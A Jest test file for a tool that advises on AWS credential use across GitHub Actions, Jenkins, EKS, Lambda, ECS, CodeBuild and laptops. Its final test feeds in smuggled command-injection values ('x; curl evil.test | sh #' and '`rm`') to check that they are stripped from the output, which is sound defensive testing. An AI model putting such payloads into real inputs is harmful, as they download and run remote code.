import { describe, expect, test } from '@jest/globals';
import { advise } from '../../src/advice/advise.js';
import type { UsedKind } from '../../src/report/advice.js';
import { circumstances } from './circumstances.js';

describe('what is advised', () => {
  test.each<[string, Parameters<typeof circumstances>[0], string, string, boolean]>([
    [
      'keys on a runner of GitHub that has a token',
      {
        ci: 'github-actions',
        runner: 'github-hosted',
        offers: ['oidc-token'],
        uses: ['long-lived-keys'],
      },
      'github-hosted',
      'change',
      true,
    ],
    [
      'keys on one that was granted none',
      { ci: 'github-actions', runner: 'github-hosted', uses: ['long-lived-keys'] },
      'github-hosted',
      'change',
      false,
    ],
    [
      "a machine's role on a runner of one's own",
      {
        ci: 'github-actions',
        runner: 'self-hosted',
        machine: 'ec2',
        offers: ['instance-role'],
        uses: ['instance-metadata'],
      },
      'github-on-ec2',
      'change',
      false,
    ],
    [
      "the runner's role in a pod",
      {
        ci: 'github-actions',
        runner: 'self-hosted',
        machine: 'eks',
        offers: ['irsa', 'oidc-token'],
        uses: ['web-identity'],
      },
      'github-on-eks',
      'change',
      true,
    ],
    [
      'a session that a step may have got',
      { ci: 'github-actions', runner: 'github-hosted', uses: ['session-keys'] },
      'github-hosted',
      'cannot-tell',
      false,
    ],
    [
      "a fork's pull request that has nothing",
      { ci: 'github-actions', withheld: true },
      'github-withheld',
      'none',
      false,
    ],
    [
      "a fork's pull request on a machine with a role",
      { ci: 'github-actions', withheld: true, machine: 'ec2', uses: ['instance-metadata'] },
      'github-withheld',
      'change',
      false,
    ],
    [
      'a build of Jenkins on EC2',
      { ci: 'jenkins', machine: 'ec2', offers: ['instance-role'], uses: ['instance-metadata'] },
      'ec2',
      'keep',
      true,
    ],
    [
      'a build of Jenkins elsewhere with keys',
      { ci: 'jenkins', uses: ['long-lived-keys'] },
      'jenkins',
      'change',
      false,
    ],
    [
      'a pod with the role of its node',
      { machine: 'eks', uses: ['instance-metadata'] },
      'eks',
      'change',
      false,
    ],
    [
      'a pod with a role of its own',
      { machine: 'eks', offers: ['pod-identity'], uses: ['container'] },
      'eks',
      'keep',
      true,
    ],
    [
      'a function with its role',
      { machine: 'lambda', offers: ['execution-role'], uses: ['session-keys'] },
      'lambda',
      'keep',
      true,
    ],
    [
      'a task with keys beside its role',
      { machine: 'ecs', offers: ['task-role'], uses: ['long-lived-keys'] },
      'ecs',
      'change',
      true,
    ],
    [
      'a build of CodeBuild',
      { ci: 'codebuild', machine: 'codebuild', offers: ['task-role'], uses: ['container'] },
      'codebuild',
      'keep',
      true,
    ],
    ['a person with keys', { uses: ['long-lived-keys'] }, 'laptop', 'change', false],
    ['a person who signs in', { uses: ['sso'] }, 'laptop', 'keep', false],
    [
      'a person whose SDKs differ',
      { uses: ['sso', 'role-by-long-lived-keys'] },
      'laptop',
      'change',
      false,
    ],
    ['a person with nothing', {}, 'laptop', 'set-up', false],
  ])('%s', (_, so, place, verdict, atHand) => {
    expect(advise(circumstances(so))).toMatchObject({ place, verdict, atHand });
  });

  test('has no steps where nothing is to be changed', () => {
    expect(advise(circumstances({ uses: ['sso'] })).steps).toEqual([]);
  });

  test("does not tell a job to ask for the token that it has, nor a fork's to change its trigger", () => {
    const so = { ci: 'github-actions', uses: ['long-lived-keys'] as UsedKind[] } as const;
    const said = (offers: readonly 'oidc-token'[]) =>
      advise(circumstances({ ...so, offers })).steps.some(({ says }) => says.includes('id-token'));
    expect([said([]), said(['oidc-token'])]).toEqual([true, false]);
    const fork = advise(circumstances({ ...so, withheld: true }));
    expect(JSON.stringify(fork.steps)).not.toMatch(/id-token|pull_request_target|role-to-assume/);
  });

  test("fills the user's names in, and a stand-in where one is no such name", () => {
    const role = 'arn:aws:iam::111122223333:role/deploy';
    const stepsFor = (names: Parameters<typeof circumstances>[0]) =>
      JSON.stringify(advise(circumstances({ ci: 'gitlab', uses: ['long-lived-keys'], ...names })));
    expect(stepsFor({ names: { role, job: 'ship' } })).toContain(`AWS_ROLE_ARN=${role}`);
    const hostile = { role: 'x; curl evil.test | sh #', job: '`rm`', account: '111122223333' };
    const text = stepsFor({ names: hostile });
    expect(text).not.toMatch(/evil|`rm`/);
    expect(text).toContain('arn:aws:iam::111122223333:role/NAME-OF-THE-ROLE');
    expect(text).toContain('JOB');
  });
});
